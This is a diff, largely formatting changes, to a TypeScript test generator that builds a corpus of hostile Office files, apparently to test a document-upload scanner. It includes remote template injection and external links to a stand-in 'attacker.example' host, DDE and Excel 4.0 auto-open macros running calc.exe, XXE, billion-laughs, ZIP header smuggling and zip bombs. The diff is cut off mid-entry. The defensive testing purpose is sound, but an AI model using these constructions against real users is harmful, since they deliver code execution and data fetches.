@@ -106,9 +106,8 @@ function cfb(size: number): Uint8Array {
 }
 
 /** A real 1×1 PNG. */
-const PNG = Uint8Array.from(
-  atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='),
-  (c) => c.charCodeAt(0),
+const PNG = Uint8Array.from(atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='), (c) =>
+  c.charCodeAt(0),
 );
 
 // ---------------------------------------------------------------------------------------------
@@ -181,8 +180,18 @@ function localRecord(entry: ZipEntry): LocalRecord {
   const flags = entry.dataDescriptor ? 0x0008 : 0;
   const name = utf8(local.name);
   const header = [
-    u32(SIG.local), u16(20), u16(flags | nameFlag(local.name)), u16(local.method), u16(DOS_TIME), u16(DOS_DATE),
-    u32(local.crc), u32(local.compressedSize), u32(local.uncompressedSize), u16(name.length), u16(0), name,
+    u32(SIG.local),
+    u16(20),
+    u16(flags | nameFlag(local.name)),
+    u16(local.method),
+    u16(DOS_TIME),
+    u16(DOS_DATE),
+    u32(local.crc),
+    u32(local.compressedSize),
+    u32(local.uncompressedSize),
+    u16(name.length),
+    u16(0),
+    name,
   ];
   const descriptor = entry.dataDescriptor
     ? [u32(SIG.descriptor), u32(declared.crc), u32(declared.compressedSize), u32(declared.uncompressedSize)]
@@ -205,20 +214,45 @@ function buildZip(entries: readonly ZipEntry[], layout: ZipLayout = {}): Uint8Ar
     const record = localRecord(entry);
     write(record.bytes);
     const name = utf8(entry.name);
-    directory.push(concat([
-      u32(SIG.central), u16(20), u16(20), u16(record.flags | nameFlag(entry.name)), u16(record.method), u16(DOS_TIME), u16(DOS_DATE),
-      u32(record.crc), u32(record.compressedSize), u32(record.uncompressedSize), u16(name.length),
-      u16(0), u16(0), u16(0), u16(0), u32(0), // extra and comment lengths, disk, attributes
-      u32(offset), name,
-    ]));
+    directory.push(
+      concat([
+        u32(SIG.central),
+        u16(20),
+        u16(20),
+        u16(record.flags | nameFlag(entry.name)),
+        u16(record.method),
+        u16(DOS_TIME),
+        u16(DOS_DATE),
+        u32(record.crc),
+        u32(record.compressedSize),
+        u32(record.uncompressedSize),
+        u16(name.length),
+        u16(0),
+        u16(0),
+        u16(0),
+        u16(0),
+        u32(0), // extra and comment lengths, disk, attributes
+        u32(offset),
+        name,
+      ]),
+    );
   }
   if (layout.beforeDirectory) write(layout.beforeDirectory);
   const directoryOffset = at;
   const directoryBytes = concat(directory);
   write(directoryBytes);
-  write(concat([
-    u32(SIG.end), u16(0), u16(0), u16(entries.length), u16(entries.length), u32(directoryBytes.length), u32(directoryOffset), u16(0),
-  ]));
+  write(
+    concat([
+      u32(SIG.end),
+      u16(0),
+      u16(0),
+      u16(entries.length),
+      u16(entries.length),
+      u32(directoryBytes.length),
+      u32(directoryOffset),
+      u16(0),
+    ]),
+  );
   return concat(out);
 }
 
@@ -291,7 +325,9 @@ const contentTypes = (defaults: readonly Pair[], overrides: readonly Pair[]) =>
 
 const relationships = (rels: readonly Rel[]) =>
   `${XML}<Relationships xmlns="${NS.packageRels}">` +
-  rels.map((r) => `<Relationship Id="${r.id}" Type="${r.type}" Target="${r.target}"${r.external ? ' TargetMode="External"' : ''}/>`).join('') +
+  rels
+    .map((r) => `<Relationship Id="${r.id}" Type="${r.type}" Target="${r.target}"${r.external ? ' TargetMode="External"' : ''}/>`)
+    .join('') +
   `</Relationships>`;
 
 const rootRels = (main: string) => relationships([{ id: 'rId1', type: REL('officeDocument'), target: main }]);
@@ -315,7 +351,10 @@ const DOCX_TYPES = contentTypes([], [['/word/document.xml', CT.docxMain]]);
 
 function docx(spec: PackageSpec & { body?: string; document?: Content; rels?: Rel[] } = {}): ZipEntry[] {
   return entries([
-    ['[Content_Types].xml', spec.contentTypes ?? contentTypes(spec.defaults ?? [], [['/word/document.xml', CT.docxMain], ...(spec.overrides ?? [])])],
+    [
+      '[Content_Types].xml',
+      spec.contentTypes ?? contentTypes(spec.defaults ?? [], [['/word/document.xml', CT.docxMain], ...(spec.overrides ?? [])]),
+    ],
     ['_rels/.rels', rootRels('word/document.xml')],
     ['word/document.xml', spec.document ?? wordDocument(spec.body ?? para('Quarterly report'))],
     ...(spec.rels ? [['word/_rels/document.xml.rels', relationships(spec.rels)] as const] : []),
@@ -325,18 +364,26 @@ function docx(spec: PackageSpec & { body?: string; document?: Content; rels?: Re
 
 const SHEET1 = '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>';
 /** `after` goes after <sheets>: externalReferences, then definedNames, in schema order. */
-const workbook = (sheets: string, after = '') => `${XML}<workbook xmlns="${NS.x}" xmlns:r="${NS.r}"><sheets>${sheets}</sheets>${after}</workbook>`;
+const workbook = (sheets: string, after = '') =>
+  `${XML}<workbook xmlns="${NS.x}" xmlns:r="${NS.r}"><sheets>${sheets}</sheets>${after}</workbook>`;
 
 function xlsx(spec: PackageSpec & { workbook?: string; rels?: Rel[] } = {}): ZipEntry[] {
   return entries([
     [
       '[Content_Types].xml',
       spec.contentTypes ??
-        contentTypes(spec.defaults ?? [], [['/xl/workbook.xml', CT.xlsxMain], ['/xl/worksheets/sheet1.xml', CT.worksheet], ...(spec.overrides ?? [])]),
+        contentTypes(spec.defaults ?? [], [
+          ['/xl/workbook.xml', CT.xlsxMain],
+          ['/xl/worksheets/sheet1.xml', CT.worksheet],
+          ...(spec.overrides ?? []),
+        ]),
     ],
     ['_rels/.rels', rootRels('xl/workbook.xml')],
     ['xl/workbook.xml', spec.workbook ?? workbook(SHEET1)],
-    ['xl/_rels/workbook.xml.rels', relationships([{ id: 'rId1', type: REL('worksheet'), target: 'worksheets/sheet1.xml' }, ...(spec.rels ?? [])])],
+    [
+      'xl/_rels/workbook.xml.rels',
+      relationships([{ id: 'rId1', type: REL('worksheet'), target: 'worksheets/sheet1.xml' }, ...(spec.rels ?? [])]),
+    ],
     [
       'xl/worksheets/sheet1.xml',
       `${XML}<worksheet xmlns="${NS.x}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>42</t></is></c></row></sheetData></worksheet>`,
@@ -355,7 +402,11 @@ function pptx(spec: PackageSpec & { shapes?: string; controls?: string; slideRel
     [
       '[Content_Types].xml',
       spec.contentTypes ??
-        contentTypes(spec.defaults ?? [], [['/ppt/presentation.xml', CT.pptxMain], ['/ppt/slides/slide1.xml', CT.slide], ...(spec.overrides ?? [])]),
+        contentTypes(spec.defaults ?? [], [
+          ['/ppt/presentation.xml', CT.pptxMain],
+          ['/ppt/slides/slide1.xml', CT.slide],
+          ...(spec.overrides ?? []),
+        ]),
     ],
     ['_rels/.rels', rootRels('ppt/presentation.xml')],
     [
@@ -458,11 +509,19 @@ export async function makeHostileCorpus(): Promise<HostileSample[]> {
   // type. The payload is not even a compound file (a real vbaProject.bin is), so that sniffing
   // its first bytes does not find it either: the relationship's type is the only signal.
   const vbaRel: Rel = { id: 'rId1', type: MS_REL('vbaProject'), target: 'payload.bin' };
-  add('vba-by-relationship', 'docx', REASON.macro,
-    buildZip(docx({ defaults: [['bin', CT.octet]], rels: [vbaRel], parts: [['word/payload.bin', noise(2048)]] })));
+  add(
+    'vba-by-relationship',
+    'docx',
+    REASON.macro,
+    buildZip(docx({ defaults: [['bin', CT.octet]], rels: [vbaRel], parts: [['word/payload.bin', noise(2048)]] })),
+  );
   // 2. The same with the part declared nowhere in the content types.
-  add('vba-by-relationship-undeclared', 'docx', REASON.macro,
-    buildZip(docx({ rels: [vbaRel], parts: [['word/payload.bin', noise(2048)]] })));
+  add(
+    'vba-by-relationship-undeclared',
+    'docx',
+    REASON.macro,
+    buildZip(docx({ rels: [vbaRel], parts: [['word/payload.bin', noise(2048)]] })),
+  );
 
   // --- Names that extractors, Windows or URL decoding turn into something else ---------------
   add('name-backslash', 'docx', REASON.unsafeName, docxWithOddName('word\\vbaProject.bin')); // 3. '\' read as '/'
@@ -477,17 +536,29 @@ export async function makeHostileCorpus(): Promise<HostileSample[]> {
 
   // --- Local headers that disagree with the central directory -----------------------------------
   // 7. The directory lists an image; a streaming reader, following local headers, extracts a VBA project.
-  add('local-name-mismatch', 'docx', REASON.localHeader,
+  add(
+    'local-name-mismatch',
+    'docx',
+    REASON.localHeader,
     buildZip([
       ...docx({ defaults: [['png', CT.png]] }),
       { name: 'word/media/image1.png', data: cfb(1024), local: { name: 'word/vbaProject.bin' } },
-    ]));
+    ]),
+  );
   // The other fields a local header can disagree on (beyond the numbered list).
   const DOCUMENT = 'word/document.xml';
-  add('local-size-mismatch', 'docx', REASON.localHeader,
-    buildZip(change(docx(), DOCUMENT, (e) => ({ local: { uncompressedSize: e.data.length * 3 } }))));
-  add('local-crc-mismatch', 'docx', REASON.localHeader,
-    buildZip(change(docx(), DOCUMENT, (e) => ({ local: { crc: (crc32(e.data) ^ 0x0badf00d) >>> 0 } }))));
+  add(
+    'local-size-mismatch',
+    'docx',
+    REASON.localHeader,
+    buildZip(change(docx(), DOCUMENT, (e) => ({ local: { uncompressedSize: e.data.length * 3 } }))),
+  );
+  add(
+    'local-crc-mismatch',
+    'docx',
+    REASON.localHeader,
+    buildZip(change(docx(), DOCUMENT, (e) => ({ local: { crc: (crc32(e.data) ^ 0x0badf00d) >>> 0 } }))),
+  );
   // Stored according to the local header: its reader takes the deflate stream itself for the content.
   add('local-method-mismatch', 'docx', REASON.localHeader, buildZip(change(docx(), DOCUMENT, () => ({ local: { method: 0 } }))));
 
@@ -512,31 +583,68 @@ export async function makeHostileCorpus(): Promise<HostileSample[]> {
       '</Types>',
       `${extraDefault}<ü:Override PartName="${partName}" ContentType="${CT.vbaProject}"/></Types>`,
     );
-  add('content-types-non-ascii-prefix', 'docx', REASON.macro,
-    buildZip(docx({ contentTypes: prefixed('/word/vbaProject.bin'), parts: [['word/vbaProject.bin', cfb(2048)]] })));
+  add(
+    'content-types-non-ascii-prefix',
+    'docx',
+    REASON.macro,
+    buildZip(docx({ contentTypes: prefixed('/word/vbaProject.bin'), parts: [['word/vbaProject.bin', cfb(2048)]] })),
+  );
   // The same under a neutral name, so that only the prefixed Override tells (beyond the numbered list).
-  add('content-types-non-ascii-prefix-neutral-name', 'docx', REASON.macro,
-    buildZip(docx({
-      contentTypes: prefixed('/word/media/data.bin', `<Default Extension="bin" ContentType="${CT.octet}"/>`),
-      parts: [['word/media/data.bin', cfb(2048)]],
-    })));
+  add(
+    'content-types-non-ascii-prefix-neutral-name',
+    'docx',
+    REASON.macro,
+    buildZip(
+      docx({
+        contentTypes: prefixed('/word/media/data.bin', `<Default Extension="bin" ContentType="${CT.octet}"/>`),
+        parts: [['word/media/data.bin', cfb(2048)]],
+      }),
+    ),
+  );
   // 10. The main part's Override only inside a comment: a regex over the text finds it, XML does not.
-  add('main-override-in-comment', 'docx', REASON.notWord,
-    buildZip(docx({
-      contentTypes: contentTypes([], []).replace('</Types>', `<!--<Override PartName="/word/document.xml" ContentType="${CT.docxMain}"/>--></Types>`),
-    })));
+  add(
+    'main-override-in-comment',
+    'docx',
+    REASON.notWord,
+    buildZip(
+      docx({
+        contentTypes: contentTypes([], []).replace(
+          '</Types>',
+          `<!--<Override PartName="/word/document.xml" ContentType="${CT.docxMain}"/>--></Types>`,
+        ),
+      }),
+    ),
+  );
   // 11. XXE: an external entity a resolving parser fetches from a local address.
-  add('doctype-xxe', 'docx', REASON.doctype,
-    buildZip(docx({
-      contentTypes: DOCX_TYPES.replace(XML, `${XML}<!DOCTYPE Types [<!ENTITY x SYSTEM "http://127.0.0.1:9/">]>\n`).replace('</Types>', '&x;</Types>'),
-    })));
+  add(
+    'doctype-xxe',
+    'docx',
+    REASON.doctype,
+    buildZip(
+      docx({
+        contentTypes: DOCX_TYPES.replace(XML, `${XML}<!DOCTYPE Types [<!ENTITY x SYSTEM "http://127.0.0.1:9/">]>\n`).replace(
+          '</Types>',
+          '&x;</Types>',
+        ),
+      }),
+    ),
+  );
   // 12. Billion laughs: ten entities of ten references each, 10^9 "lol"s once expanded.
   {
     const lols = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
-    add('doctype-billion-laughs', 'docx', REASON.doctype,
-      buildZip(docx({
-        contentTypes: DOCX_TYPES.replace(XML, `${XML}<!DOCTYPE Types [<!ENTITY lol0 "lol">${lols}]>\n`).replace('</Types>', '&lol9;</Types>'),
-      })));
+    add(
+      'doctype-billion-laughs',
+      'docx',
+      REASON.doctype,
+      buildZip(
+        docx({
+          contentTypes: DOCX_TYPES.replace(XML, `${XML}<!DOCTYPE Types [<!ENTITY lol0 "lol">${lols}]>\n`).replace(
+            '</Types>',
+            '&lol9;</Types>',
+          ),
+        }),
+      ),
+    );
   }
   // 13. Two lists; readers keeping the last one see a macro-enabled document.
   const MACRO_TYPES = contentTypes([], [['/word/document.xml', CT.docmMain]]);
@@ -544,211 +652,393 @@ export async function makeHostileCorpus(): Promise<HostileSample[]> {
   // 14. A second list whose name differs only in case: the same file on Windows and macOS.
   {
     const [types, ...rest] = docx();
-    add('content-types-case-variant', 'docx', REASON.duplicate,
-      buildZip([types!, { name: '[content_types].xml', data: utf8(MACRO_TYPES) }, ...rest]));
+    add(
+      'content-types-case-variant',
+      'docx',
+      REASON.duplicate,
+      buildZip([types!, { name: '[content_types].xml', data: utf8(MACRO_TYPES) }, ...rest]),
+    );
   }
   // 39. A legacy single-byte encoding declared (the bytes themselves are plain ASCII).
-  add('content-types-latin1', 'docx', REASON.utf8, buildZip(docx({ contentTypes: DOCX_TYPES.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"') })));
+  add(
+    'content-types-latin1',
+    'docx',
+    REASON.utf8,
+    buildZip(docx({ contentTypes: DOCX_TYPES.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"') })),
+  );
   // UTF-16 declared over UTF-8 bytes, and a UTF-16 main part (beyond the numbered list).
-  add('content-types-declared-utf16', 'docx', REASON.utf8, buildZip(docx({ contentTypes: DOCX_TYPES.replace('encoding="UTF-8"', 'encoding="UTF-16"') })));
-  add('document-utf16', 'docx', REASON.utf8,
-    buildZip(docx({
-      document: concat([new Uint8Array([0xff, 0xfe]), utf16le(wordDocument(para('Quarterly report')).replace('encoding="UTF-8"', 'encoding="UTF-16"'))]),
-    })));
+  add(
+    'content-types-declared-utf16',
+    'docx',
+    REASON.utf8,
+    buildZip(docx({ contentTypes: DOCX_TYPES.replace('encoding="UTF-8"', 'encoding="UTF-16"') })),
+  );
+  add(
+    'document-utf16',
+    'docx',
+    REASON.utf8,
+    buildZip(
+      docx({
+        document: concat([
+          new Uint8Array([0xff, 0xfe]),
+          utf16le(wordDocument(para('Quarterly report')).replace('encoding="UTF-8"', 'encoding="UTF-16"')),
+        ]),
+      }),
+    ),
+  );
 
   // --- Things Office fetches or runs -------------------------------------------------------------
   // 15. Remote template injection: Word fetches (and runs the macros of) the attached template.
-  add('remote-template', 'docx', REASON.external,
-    buildZip(docx({
-      rels: [{ id: 'rId1', type: REL('settings'), target: 'settings.xml' }],
-      overrides: [['/word/settings.xml', CT.settings]],
-      parts: [
-        ['word/settings.xml', `${XML}<w:settings xmlns:w="${NS.w}" xmlns:r="${NS.r}"><w:attachedTemplate r:id="rId1"/></w:settings>`],
-        ['word/_rels/settings.xml.rels', relationships([{ id: 'rId1', type: REL('attachedTemplate'), target: 'https://attacker.example/t.dotm', external: true }])],
-      ],
-    })));
+  add(
+    'remote-template',
+    'docx',
+    REASON.external,
+    buildZip(
+      docx({
+        rels: [{ id: 'rId1', type: REL('settings'), target: 'settings.xml' }],
+        overrides: [['/word/settings.xml', CT.settings]],
+        parts: [
+          ['word/settings.xml', `${XML}<w:settings xmlns:w="${NS.w}" xmlns:r="${NS.r}"><w:attachedTemplate r:id="rId1"/></w:settings>`],
+          [
+            'word/_rels/settings.xml.rels',
+            relationships([{ id: 'rId1', type: REL('attachedTemplate'), target: 'https://attacker.example/t.dotm', external: true }]),
+          ],
+        ],
+      }),
+    ),
+  );
   // 16. An embedded OLE object (a compound file: anything from a spreadsheet to a packaged executable).
-  add('ole-embedded', 'docx', REASON.ole,
-    buildZip(docx({
-      body: wordObject('Embed'),
-      rels: [{ id: 'rId1', type: REL('oleObject'), target: 'embeddings/oleObject1.bin' }],
-      defaults: [['bin', CT.oleObject]],
-      parts: [['word/embeddings/oleObject1.bin', cfb(4096)]],
-    })));
+  add(
+    'ole-embedded',
+    'docx',
+    REASON.ole,
+    buildZip(
+      docx({
+        body: wordObject('Embed'),
+        rels: [{ id: 'rId1', type: REL('oleObject'), target: 'embeddings/oleObject1.bin' }],
+        defaults: [['bin', CT.oleObject]],
+        parts: [['word/embeddings/oleObject1.bin', cfb(4096)]],
+      }),
+    ),
+  );
   // 17. A linked OLE object, refreshed from a path of the attacker's choosing.
-  add('ole-external-link', 'docx', REASON.oleOrExternal,
-    buildZip(docx({ body: wordObject('Link'), rels: [{ id: 'rId1', type: REL('oleObject'), target: 'file:///C:/x.xls', external: true }] })));
+  add(
+    'ole-external-link',
+    'docx',
+    REASON.oleOrExternal,
+    buildZip(
+      docx({ body: wordObject('Link'), rels: [{ id: 'rId1', type: REL('oleObject'), target: 'file:///C:/x.xls', external: true }] }),
+    ),
+  );
   // 18-21. DDE: a field that asks to start a program.
   add('dde-auto', 'docx', REASON.dde, buildZip(docx({ body: complexField([` DDEAUTO ${DDE_ARGS} `]) })));
   add('dde-auto-split', 'docx', REASON.dde, buildZip(docx({ body: complexField([' DD', `EAUTO ${DDE_ARGS} `]) })));
-  add('dde-fld-simple', 'docx', REASON.dde,
-    buildZip(docx({
-      body: `<w:p><w:fldSimple w:instr=" DDE ${DDE_ARGS.replaceAll('"', '&quot;')} "><w:r><w:t>Loading</w:t></w:r></w:fldSimple></w:p>`,
-    })));
-  add('dde-auto-other-prefix', 'docx', REASON.dde, buildZip(docx({ document: wordDocument(complexField([` DDEAUTO ${DDE_ARGS} `], 'x'), 'x') })));
+  add(
+    'dde-fld-simple',
+    'docx',
+    REASON.dde,
+    buildZip(
+      docx({
+        body: `<w:p><w:fldSimple w:instr=" DDE ${DDE_ARGS.replaceAll('"', '&quot;')} "><w:r><w:t>Loading</w:t></w:r></w:fldSimple></w:p>`,
+      }),
+    ),
+  );
+  add(
+    'dde-auto-other-prefix',
+    'docx',
+    REASON.dde,
+    buildZip(docx({ document: wordDocument(complexField([` DDEAUTO ${DDE_ARGS} `], 'x'), 'x') })),
+  );
   // 22. A DOCTYPE in the main part.
-  add('doctype-document', 'docx', REASON.doctype,
-    buildZip(docx({ document: wordDocument(para('&company;')).replace(XML, `${XML}<!DOCTYPE w:document [<!ENTITY company "Contoso">]>\n`) })));
+  add(
+    'doctype-document',
+    'docx',
+    REASON.doctype,
+    buildZip(
+      docx({ document: wordDocument(para('&company;')).replace(XML, `${XML}<!DOCTYPE w:document [<!ENTITY company "Contoso">]>\n`) }),
+    ),
+  );
   // 37. A subdocument loaded from elsewhere.
-  add('subdocument-external', 'docx', REASON.external,
-    buildZip(docx({
-      body: '<w:p><w:subDoc r:id="rId1"/></w:p>',
-      rels: [{ id: 'rId1', type: REL('subDocument'), target: 'https://attacker.example/sub.docx', external: true }],
-    })));
+  add(
+    'subdocument-external',
+    'docx',
+    REASON.external,
+    buildZip(
+      docx({
+        body: '<w:p><w:subDoc r:id="rId1"/></w:p>',
+        rels: [{ id: 'rId1', type: REL('subDocument'), target: 'https://attacker.example/sub.docx', external: true }],
+      }),
+    ),
+  );
   // 38. A frame (web layout) whose source is elsewhere.
-  add('frame-external', 'docx', REASON.external,
-    buildZip(docx({
-      rels: [{ id: 'rId1', type: REL('webSettings'), target: 'webSettings.xml' }],
-      overrides: [['/word/webSettings.xml', CT.webSettings]],
-      parts: [
-        [
-          'word/webSettings.xml',
-          `${XML}<w:webSettings xmlns:w="${NS.w}" xmlns:r="${NS.r}"><w:frameset><w:frame><w:name w:val="f1"/><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`,
+  add(
+    'frame-external',
+    'docx',
+    REASON.external,
+    buildZip(
+      docx({
+        rels: [{ id: 'rId1', type: REL('webSettings'), target: 'webSettings.xml' }],
+        overrides: [['/word/webSettings.xml', CT.webSettings]],
+        parts: [
+          [
+            'word/webSettings.xml',
+            `${XML}<w:webSettings xmlns:w="${NS.w}" xmlns:r="${NS.r}"><w:frameset><w:frame><w:name w:val="f1"/><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`,
+          ],
+          [
+            'word/_rels/webSettings.xml.rels',
+            relationships([{ id: 'rId1', type: REL('frame'), target: 'https://attacker.example/frame.html', external: true }]),
+          ],
         ],
-        ['word/_rels/webSettings.xml.rels', relationships([{ id: 'rId1', type: REL('frame'), target: 'https://attacker.example/frame.html', external: true }])],
-      ],
-    })));
+      }),
+    ),
+  );
 
   // --- Bytes that belong to no entry -------------------------------------------------------------
   // 23. An HTML page in front: a polyglot a browser renders and an unzipper opens.
-  add('prefix-html', 'docx', REASON.beforeFirstEntry,
-    buildZip(docx(), { prefix: utf8('<html><body><p>Invoice</p><script>location.href="https://attacker.example/"</script></body></html>\n') }));
+  add(
+    'prefix-html',
+    'docx',
+    REASON.beforeFirstEntry,
+    buildZip(docx(), {
+      prefix: utf8('<html><body><p>Invoice</p><script>location.href="https://attacker.example/"</script></body></html>\n'),
+    }),
+  );
   // 24. A Windows executable in front: a self-extractor.
   add('prefix-pe', 'docx', REASON.beforeFirstEntry, buildZip(docx(), { prefix: peStub() }));
   // 25. A well-formed local entry (a VBA project) in front that the directory does not list:
   // starts with PK\3\4 like any ZIP, and a streaming reader extracts it.
-  add('prefix-smuggled-local-header', 'docx', REASON.beforeFirstEntry,
-    buildZip(docx(), { prefix: localRecord({ name: 'word/vbaProject.bin', data: cfb(1024), method: 0 }).bytes }));
+  add(
+    'prefix-smuggled-local-header',
+    'docx',
+    REASON.beforeFirstEntry,
+    buildZip(docx(), { prefix: localRecord({ name: 'word/vbaProject.bin', data: cfb(1024), method: 0 }).bytes }),
+  );
   // 35. A gap between two entries.
-  add('gap-between-entries', 'docx', REASON.outsideEntries,
-    buildZip(change(docx(), DOCUMENT, () => ({ before: concat([utf8('hidden:'), cfb(512)]) }))));
+  add(
+    'gap-between-entries',
+    'docx',
+    REASON.outsideEntries,
+    buildZip(change(docx(), DOCUMENT, () => ({ before: concat([utf8('hidden:'), cfb(512)]) }))),
+  );
   // A gap between the last entry and the directory (beyond the numbered list).
   add('gap-before-directory', 'docx', REASON.outsideEntries, buildZip(docx(), { beforeDirectory: concat([utf8('hidden:'), cfb(512)]) }));
 
   // --- Duplicates ----------------------------------------------------------------------------------
   // 26. Which one a reader takes depends on the reader.
-  add('duplicate-names', 'docx', REASON.duplicate, buildZip([...docx(), { name: DOCUMENT, data: utf8(wordDocument(para('The other body'))) }]));
+  add(
+    'duplicate-names',
+    'docx',
+    REASON.duplicate,
+    buildZip([...docx(), { name: DOCUMENT, data: utf8(wordDocument(para('The other body'))) }]),
+  );
   // 27. The same name on a case-insensitive file system.
-  add('duplicate-names-case', 'docx', REASON.duplicate,
-    buildZip([...docx(), { name: 'Word/Document.xml', data: utf8(wordDocument(para('The other body'))) }]));
+  add(
+    'duplicate-names-case',
+    'docx',
+    REASON.duplicate,
+    buildZip([...docx(), { name: 'Word/Document.xml', data: utf8(wordDocument(para('The other body'))) }]),
+  );
 
   // --- Sizes, CRCs, bombs -------------------------------------------------------------------------
   // 28. Declares 1 KiB (with that KiB's CRC) and inflates to 200 MiB: only stopping at the declared size saves the reader.
-  add('inflates-past-declared-size', 'docx', REASON.overflow,
+  add(
+    'inflates-past-declared-size',
+    'docx',
+    REASON.overflow,
     buildZip([
       ...docx({ defaults: [['bin', CT.octet]] }),
       { name: 'word/media/padding.bin', data: new Uint8Array(1024), compressed: await inflatesTo200MiB() },
-    ]));
+    ]),
+  );
   // 29. Seven honest 8 MiB entries of zeros: each under a per-entry size threshold, 56 MiB from ~60 KB.
   {
     const zeros = await eightMiBOfZeros();
-    add('zeros-1000-to-1', 'docx', REASON.bomb,
+    add(
+      'zeros-1000-to-1',
+      'docx',
+      REASON.bomb,
       buildZip([
         ...docx({ defaults: [['bin', CT.octet]] }),
         ...Array.from({ length: 7 }, (_, i): ZipEntry => ({ name: `word/media/zeros${i + 1}.bin`, ...zeros })),
-      ]));
+      ]),
+    );
   }
   // 34. Both headers agree on a CRC the data does not have.
   add('crc-mismatch', 'docx', REASON.crc, buildZip(change(docx(), DOCUMENT, (e) => ({ crc: (crc32(e.data) ^ 0x5a5a5a5a) >>> 0 }))));
 
   // --- Workbooks ------------------------------------------------------------------------------------
   // 30. An Excel 4.0 macro sheet that runs on open, named and typed like an ordinary worksheet.
-  add('xlsx-macrosheet-neutral-name', 'xlsx', REASON.macro,
-    buildZip(xlsx({
-      workbook: workbook(
-        `${SHEET1}<sheet name="Macro1" sheetId="2" state="hidden" r:id="rId2"/>`,
-        '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>',
-      ),
-      rels: [{ id: 'rId2', type: MS_REL('xlMacrosheet'), target: 'worksheets/sheet2.xml' }],
-      overrides: [['/xl/worksheets/sheet2.xml', CT.worksheet]],
-      parts: [
-        [
-          'xl/worksheets/sheet2.xml',
-          `${XML}<xm:macrosheet xmlns="${NS.x}" xmlns:xm="${NS.xm}"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>`,
+  add(
+    'xlsx-macrosheet-neutral-name',
+    'xlsx',
+    REASON.macro,
+    buildZip(
+      xlsx({
+        workbook: workbook(
+          `${SHEET1}<sheet name="Macro1" sheetId="2" state="hidden" r:id="rId2"/>`,
+          '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>',
+        ),
+        rels: [{ id: 'rId2', type: MS_REL('xlMacrosheet'), target: 'worksheets/sheet2.xml' }],
+        overrides: [['/xl/worksheets/sheet2.xml', CT.worksheet]],
+        parts: [
+          [
+            'xl/worksheets/sheet2.xml',
+            `${XML}<xm:macrosheet xmlns="${NS.x}" xmlns:xm="${NS.xm}"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>`,
+          ],
         ],
-      ],
-    })));
+      }),
+    ),
+  );
   // 31 and 36: an external link part, reached the ordinary way; the link inside is the defect.
   const externalLink = (content: string, parts: Part[] = []) =>
     xlsx({
       workbook: workbook(SHEET1, '<externalReferences><externalReference r:id="rId2"/></externalReferences>'),
       rels: [{ id: 'rId2', type: REL('externalLink'), target: 'externalLinks/externalLink1.xml' }],
       overrides: [['/xl/externalLinks/externalLink1.xml', CT.externalLink]],
-      parts: [['xl/externalLinks/externalLink1.xml', `${XML}<externalLink xmlns="${NS.x}" xmlns:r="${NS.r}">${content}</externalLink>`], ...parts],
+      parts: [
+        ['xl/externalLinks/externalLink1.xml', `${XML}<externalLink xmlns="${NS.x}" xmlns:r="${NS.r}">${content}</externalLink>`],
+        ...parts,
+      ],
     });
   // 31. A DDE link: Excel asks the "cmd" service for a topic, i.e. runs a command.
-  add('xlsx-dde-link', 'xlsx', REASON.dde,
-    buildZip(externalLink('<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>')));
+  add(
+    'xlsx-dde-link',
+    'xlsx',
+    REASON.dde,
+    buildZip(
+      externalLink('<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'),
+    ),
+  );
   // 36. A link to a workbook elsewhere, refreshed from the attacker's server.
-  add('xlsx-external-workbook', 'xlsx', REASON.external,
-    buildZip(externalLink('<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>', [
-      ['xl/externalLinks/_rels/externalLink1.xml.rels',
-        relationships([{ id: 'rId1', type: REL('externalLinkPath'), target: 'https://attacker.example/book2.xlsx', external: true }])],
-    ])));
+  add(
+    'xlsx-external-workbook',
+    'xlsx',
+    REASON.external,
+    buildZip(
+      externalLink('<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>', [
+        [
+          'xl/externalLinks/_rels/externalLink1.xml.rels',
+          relationships([{ id: 'rId1', type: REL('externalLinkPath'), target: 'https://attacker.example/book2.xlsx', external: true }]),
+        ],
+      ]),
+    ),
+  );
 
   // --- Presentations --------------------------------------------------------------------------------
   // 32. An ActiveX control on a slide: the control's XML, and its persisted binary.
-  add('pptx-activex', 'pptx', REASON.activeX,
-    buildZip(pptx({
-      controls: '<p:controls><p:control name="CommandButton1" r:id="rId1" imgW="914400" imgH="457200"/></p:controls>',
-      slideRels: [{ id: 'rId1', type: REL('control'), target: '../activeX/activeX1.xml' }],
-      defaults: [['bin', CT.activeXBinary]],
-      overrides: [['/ppt/activeX/activeX1.xml', CT.activeX]],
-      parts: [
-        [
-          'ppt/activeX/activeX1.xml',
-          `${XML}<ax:ocx xmlns:ax="${NS.ax}" xmlns:r="${NS.r}" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1"/>`,
+  add(
+    'pptx-activex',
+    'pptx',
+    REASON.activeX,
+    buildZip(
+      pptx({
+        controls: '<p:controls><p:control name="CommandButton1" r:id="rId1" imgW="914400" imgH="457200"/></p:controls>',
+        slideRels: [{ id: 'rId1', type: REL('control'), target: '../activeX/activeX1.xml' }],
